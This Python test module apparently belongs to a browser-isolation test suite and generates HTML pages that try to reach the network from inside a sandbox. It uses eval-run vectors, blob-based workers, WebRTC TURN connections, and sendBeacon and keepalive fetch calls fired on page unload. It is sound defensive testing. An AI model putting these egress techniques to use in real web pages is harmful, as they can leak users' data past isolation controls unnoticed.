"""Pages that try to get out. Each tells its console what it has tried, or is about to."""

import json
from collections.abc import Mapping
from dataclasses import dataclass

from tests.browser.isolation import vectors
from tests.browser.isolation.vectors import Address

_HELPERS = r"""
const blob = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const add = (tag, fields = {}) => {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(fields)) {
    if (name in made && name !== "target") made[name] = value;
    else made.setAttribute(name, value);
  }
  document.body.append(made);
  return made;
};
const work = (code, type = "classic") => new Worker(blob(code, "text/javascript"), {type});
const tried = {};
const take = (name, code) => {
  tried[name] = "done";
  try {
    Promise.resolve((0, eval)(code)).catch(e => { tried[name] = String(e); });
  } catch (e) { tried[name] = String(e); }
};
const ring = (urls) => {
  const call = new RTCPeerConnection({iceServers: [{urls, username: "a", credential: "b"}]});
  (self.calls ??= []).push(call);
  call.createDataChannel("a");
  return call.createOffer().then(offer => call.setLocalDescription(offer));
};
"""
# What a page starts late, a browser does later still: prefetches wait for an idle moment.
_DWELL_MS = 2000


@dataclass(frozen=True, slots=True)
class Attack:
    """`app` is the origin of the application."""

    addresses: Mapping[str, Address]
    app: str

    def quiet(self) -> str:
        """Everything that can be tried at once."""
        markup = [self._fill(name, text) for name, text in vectors.QUIET.items()]
        code = {name: self._fill(name, text) for name, text in vectors.SCRIPTS.items()}
        for name, url in vectors.WEBRTC.items():
            code[name] = f"ring({json.dumps(self._fill(name, url))})"
        beacon, fetch = (self.addresses[name].url for name in vectors.UNLOADING)
        script = f"""
for (const [name, code] of Object.entries({_json(code)})) take(name, code);
addEventListener("pagehide", () => {{
  navigator.sendBeacon("{beacon}", "x");
  fetch("{fetch}", {{keepalive: true}});
}});
setTimeout(() => console.log("tried quiet"), {_DWELL_MS});"""
        return _page("Quiet", "\n".join(markup), script)

    def leaving(self) -> str:
        """Ways after which the page may be gone; takes the one that its address names after #."""
        ways = {name: self._fill(name, text) for name, text in vectors.LEAVING.items()}
        script = f"""
const name = location.hash.slice(1);
const go = () => {{ console.log("tried " + name); take(name, {_json(ways)}[name]); }};
addEventListener("load", () => setTimeout(go, 200));"""
        return _page("Leaving", "", script)

    def gestures(self) -> str:
        """Elements to click on, each in a box with its name, which it tells when it is."""
        items = [
            f'<div id="{name}">{self._fill(name, text)}</div>'
            for name, text in vectors.GESTURES.items()
        ]
        script = """
addEventListener("load", () => console.log("tried gestures"));
for (const kind of ["pointerdown", "keydown"]) {
  addEventListener(kind, e => {
    console.log("tried " + e.target.closest?.("[id]")?.id);
  }, true);
}"""
        return _page("Gestures", "".join(items), script)

    def _fill(self, name: str, text: str) -> str:
        return self.addresses[name].fill(text, self.app)


def _page(title: str, markup: str, script: str) -> str:
    return f"""<!doctype html><html><head><meta charset=utf-8><title>{title}</title>
<script>{_HELPERS}</script></head><body><p id="attack">hello</p>
{markup}
<script>{script}</script></body></html>"""


def _json(value: object) -> str:
    """JSON that an HTML parser leaves alone."""
    return json.dumps(value).replace("<", "\\u003c")
